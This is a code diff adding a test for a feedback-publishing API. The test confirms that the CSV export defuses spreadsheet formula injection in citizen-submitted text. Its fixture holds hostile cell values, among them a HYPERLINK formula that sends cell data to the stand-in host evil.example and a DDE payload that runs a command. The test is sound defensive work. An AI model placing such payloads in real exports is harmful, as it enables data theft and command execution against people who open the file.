@@ -12,6 +12,7 @@ import { problemCodes } from '../contracts/problem.ts';
 import type { FeedbackStatsResult, PublishedItem, PublishedList } from '../contracts/published.ts';
 import { publishedCsvColumns } from '../contracts/published.ts';
 import { CONTENT_DIR, openHarness, type Harness } from '../test-harness.ts';
+import { publishedCsv } from './published.ts';
 import { insertCase, type CaseSpec } from '../../db/demo-feedback-public.ts';
 
 let h: Harness;
@@ -178,6 +179,21 @@ describe('GET /published-feedback', () => {
       satisfied: 'true',
       on_time: 'true',
     });
+  });
+
+  it('neutralises citizen text a spreadsheet would run as a formula (issue #7 part 4)', async () => {
+    const item = await json<PublishedItem>('/api/v1/published-feedback/AAAA-2222');
+    const hostile = {
+      title: '=HYPERLINK("https://evil.example/?d="&A2,"Xem chi tiết")',
+      question: "+cmd|' /C calc'!A0",
+      answer: '-2+3',
+      sender_name: '@SUM(1+1)',
+      subject: '\t=1',
+    };
+    const csv = publishedCsv([{ ...item, ...hostile } as PublishedItem]);
+    const [row] = parseCsvObjects(csv);
+    for (const [col, text] of Object.entries(hostile)) expect(row![col], col).toBe(`'${text}`);
+    expect(row!.working_days).toBe('5');
   });
 });
 
